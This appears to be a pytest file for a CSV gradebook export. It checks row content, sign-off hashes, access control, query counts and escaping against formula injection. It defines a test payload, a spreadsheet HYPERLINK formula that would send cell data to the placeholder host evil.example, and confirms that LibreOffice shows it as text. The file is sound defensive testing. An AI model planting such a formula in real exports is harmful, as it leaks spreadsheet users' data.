"""The CSV gradebook: one row per attempt, escaped against formula injection, and read back by LibreOffice."""
import csv
import io
import shutil
import subprocess
import xml.etree.ElementTree as ET
import zipfile

import pytest

from tests.conftest import sign_in
from web.extensions import db
from web.models import Attempt, Cohort, User, utcnow

NS = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
      "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
      "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0"}
HOSTILE_COHORT = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE_COMMENT = "+SUM(1+1)"


@pytest.fixture
def gradebook_data(app, demo_cohort, make_attempt):
    from web.services.marks import moderate

    first = make_attempt(demo_cohort["learner"])
    second = make_attempt(demo_cohort["other_learner"], reply="ok we will look")
    make_attempt(demo_cohort["outsider"])   # another learner, in no cohort of this tutor: not in the gradebook
    with app.app_context():
        cohort = db.session.get(Cohort, demo_cohort["cohort"])
        cohort.name = HOSTILE_COHORT
        a = db.session.get(Attempt, first)
        a.mode = "assessed"
        moderate(a, "tone_of_voice", "1", "A little flat.", db.session.get(User, demo_cohort["tutor"]))
        a.signed_off_by_id, a.signed_off_at = demo_cohort["assessor"], utcnow()
        a.signoff_comment = HOSTILE_COMMENT
        db.session.commit()
        numbers = {k: db.session.get(User, demo_cohort[k]).candidate_number for k in ("learner", "other_learner")}
    return {"first": first, "second": second, "numbers": numbers, **demo_cohort}


def _download(app, username, cohort_id):
    client = app.test_client()
    sign_in(client, username)
    return client.get(f"/exports/cohorts/{cohort_id}/gradebook.csv")


def test_one_row_per_attempt_with_both_levels_and_the_signoff(app, gradebook_data):
    response = _download(app, "tutora", gradebook_data["cohort"])
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert 'filename="cohort-' in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [r["candidate_number"] for r in rows] == [gradebook_data["numbers"]["learner"],
                                                     gradebook_data["numbers"]["other_learner"]]
    first = rows[0]
    assert first["mode"] == "assessed" and first["scenario"] and "-" not in first["scenario"][:1]
    assert (first["tone_of_voice_automatic"], first["tone_of_voice_moderated"]) == ("2", "1")
    assert first["signed_off_by"] == "Assessor Person6" and first["signed_off_at"]
    assert rows[1]["signed_off_by"] == "" and rows[1]["tone_of_voice_moderated"] == ""
    with app.app_context():
        attempt = db.session.get(Attempt, gradebook_data["first"])
        assert first["grade"] == attempt.final_grade and first["automatic_grade"] == attempt.auto_grade
    body = response.get_data(as_text=True)
    assert "Learner Person" not in body and "learnera" not in body   # candidate numbers, never names


def test_the_signoff_carries_its_hash_and_says_when_the_evidence_changed_since(app, gradebook_data):
    """As the review page and the PDF do: a sign-off made with a hash shows it, and 'yes' once a level changed."""
    from web.services.marks import moderate
    from web.services.signoff import sign
    with app.app_context():
        second = db.session.get(Attempt, gradebook_data["second"])
        digest = sign(second, db.session.get(User, gradebook_data["assessor"]), "Meets the criteria.")
        db.session.commit()
    rows = list(csv.DictReader(io.StringIO(_download(app, "tutora", gradebook_data["cohort"]).get_data(True))))
    assert (rows[1]["signed_sha256"], rows[1]["changed_since_signoff"]) == (digest, "no")
    assert (rows[0]["signed_sha256"], rows[0]["changed_since_signoff"]) == ("", "")   # signed before hashes
    with app.app_context():
        second = db.session.get(Attempt, gradebook_data["second"])
        tone = next(s for s in second.scores if s.criterion == "tone_of_voice").level
        moderate(second, "tone_of_voice", "0" if tone != "0" else "1", "Curt.", db.session.get(User, gradebook_data["tutor"]))
        db.session.commit()
    rows = list(csv.DictReader(io.StringIO(_download(app, "tutora", gradebook_data["cohort"]).get_data(True))))
    assert (rows[1]["signed_sha256"], rows[1]["changed_since_signoff"]) == (digest, "yes")


def test_cells_that_would_run_as_formulas_are_escaped(app, gradebook_data):
    rows = list(csv.DictReader(io.StringIO(_download(app, "tutora", gradebook_data["cohort"]).get_data(True))))
    assert rows[0]["cohort"] == "'" + HOSTILE_COHORT
    assert rows[0]["signoff_comment"] == "'" + HOSTILE_COMMENT


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_each_formula_start_is_escaped_and_ordinary_text_is_not(text):
    from web.services.spreadsheet import csv_text, safe_cell
    assert safe_cell(text) == "'" + text
    assert safe_cell("Reply 1 = good") == "Reply 1 = good" and safe_cell(None) == ""
    # csv_text's fast path for ordinary text escapes the same cells
    written = list(csv.reader(io.StringIO(csv_text(["a", "b", "c", "d"], [[text, "Reply 1 = good", None, -1]]))))
    assert written[1] == ["'" + text, "Reply 1 = good", "", "-1"]


def test_only_those_who_may_export_the_cohort_get_its_gradebook(app, gradebook_data, make_user):
    assert _download(app, "assessora", gradebook_data["cohort"]).status_code == 200
    assert _download(app, "tutorb", gradebook_data["cohort"]).status_code == 403
    make_user("assessor", "elsewhere")
    assert _download(app, "elsewhere", gradebook_data["cohort"]).status_code == 403
    assert _download(app, "learnera", gradebook_data["cohort"]).status_code == 403


def test_the_gradebook_reads_plain_rows_in_a_fixed_few_statements(app, gradebook_data):
    """Issue 17 item 2: a 10,000-attempt cohort took a second of CPU loading ORM attempts with seven relations. Now
    the attempts and their levels are two plain reads, and only signed attempts (for their evidence hash) load."""
    from tests.web.test_page_work import copy_attempts, statements

    client = app.test_client()
    sign_in(client, "tutora")
    path = f"/exports/cohorts/{gradebook_data['cohort']}/gradebook.csv"
    few = statements(app, client, path)
    copy_attempts(app, gradebook_data["second"], [gradebook_data["learner"], gradebook_data["other_learner"]], 5)
    # the session's user, the cohort, its count of attempts (small enough to stream), the attempts, their levels (the
    # one signed attempt was signed before hashes were kept: nothing to check, nothing loaded)
    assert statements(app, client, path) == few == 5


def _ods_rows(path) -> list[list[tuple[str, str]]]:
    """Each row's cells as (value type, shown text), from the ODS LibreOffice wrote; repeated cells expanded."""
    root = ET.fromstring(zipfile.ZipFile(path).read("content.xml"))
    rows = []
    for row in root.iter(f"{{{NS['table']}}}table-row"):
        cells = []
        for cell in row.findall("table:table-cell", NS):
            repeat = int(cell.get(f"{{{NS['table']}}}number-columns-repeated", "1"))
            kind = cell.get(f"{{{NS['office']}}}value-type", "")
            formula = cell.get(f"{{{NS['table']}}}formula")
            text = "\n".join("".join(p.itertext()) for p in cell.findall("text:p", NS))
            cells += [("formula" if formula else kind, text)] * min(repeat, 100)
        rows.append(cells)
    return rows


@pytest.mark.slow
def test_libreoffice_opens_the_gradebook_with_every_cell_in_its_column(app, gradebook_data, tmp_path):
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    body = _download(app, "tutora", gradebook_data["cohort"]).data
    source = tmp_path / "gradebook.csv"
    source.write_bytes(body)
    # Comma, double quote, UTF-8, from line 1, English; token 13 true: evaluate formulas, as a careless import would.
    subprocess.run([soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/lo-profile",
                    "--infilter=CSV:44,34,76,1,,1033,false,false,false,false,false,-1,true",
                    "--convert-to", "ods", "--outdir", str(tmp_path), str(source)],
                   check=True, capture_output=True, timeout=180)
    rows = _ods_rows(tmp_path / "gradebook.ods")
    header = [text for _kind, text in rows[0]]
    expected = next(csv.reader(io.StringIO(body.decode("utf-8"))))
    assert header[:len(expected)] == expected
    first = dict(zip(header, rows[1]))
    assert first["candidate_number"] == ("string", gradebook_data["numbers"]["learner"])
    assert first["cohort"] == ("string", "'" + HOSTILE_COHORT)           # text, not a formula
    assert first["signoff_comment"] == ("string", "'" + HOSTILE_COMMENT)
    assert first["tone_of_voice_automatic"] == ("float", "2") and first["tone_of_voice_moderated"] == ("float", "1")
    assert first["mode"] == ("string", "assessed")
    assert not any(kind == "formula" for row in rows for kind, _text in row)
    second = dict(zip(header, rows[2]))
    assert second["candidate_number"] == ("string", gradebook_data["numbers"]["other_learner"])
    assert [r for r in rows[3:] if any(text for _k, text in r)] == []   # two attempts, two rows
